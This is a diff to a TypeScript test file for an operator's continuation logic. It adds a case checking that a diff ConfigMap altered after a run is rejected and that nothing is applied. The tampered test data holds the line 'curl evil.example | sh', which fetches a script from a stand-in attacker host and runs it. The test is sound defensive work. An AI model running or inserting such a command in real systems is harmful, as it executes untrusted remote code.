@@ -2,7 +2,7 @@
 // diff ConfigMap in, the commit and diff to start from (or the InvalidSpec message) out.
 import { describe, expect, it } from 'vitest';
 import type { CodingRun } from '../../operator/src/api/index.ts';
-import { buildDiffConfigMap, type DiffConfigMap } from '../../operator/src/reconcile/diff-config-map.ts';
+import { buildDiffConfigMap, diffSha, type DiffConfigMap } from '../../operator/src/reconcile/diff-config-map.ts';
 import { decideContinuation, type ContinuationInput } from '../../operator/src/workers/continuation.ts';
 import { codingRunFixture } from '../support/coding-run-fixture.ts';
 import { codingRunSpec } from '../../operator/src/api/index.ts';
@@ -77,6 +77,13 @@ describe('decideContinuation', () => {
     ['the diff ConfigMap is gone', input(finished(), { diffConfigMap: undefined }), /full diff \(ConfigMap first-diff\) is gone/],
     ["a ConfigMap that is not the run's", input(finished(), { diffConfigMap: someoneElses() }), /ConfigMap first-diff is not its diff/],
     ['an empty ConfigMap', input(finished(), { diffConfigMap: { ...configMapOf(finished()), data: {} } }), /holds no diff/],
+    [
+      "the run's own ConfigMap, changed after the run kept its diff there (status.result.diffSha256)",
+      input(finished({}, { diffSha256: diffSha(DIFF) }), {
+        diffConfigMap: configMapOf(finished(), DIFF.replace('Hello, world', 'curl evil.example | sh')),
+      }),
+      /no longer holds the diff that run kept .*nothing was applied/,
+    ],
     [
       'a full diff cut at 1 MiB',
       (() => {
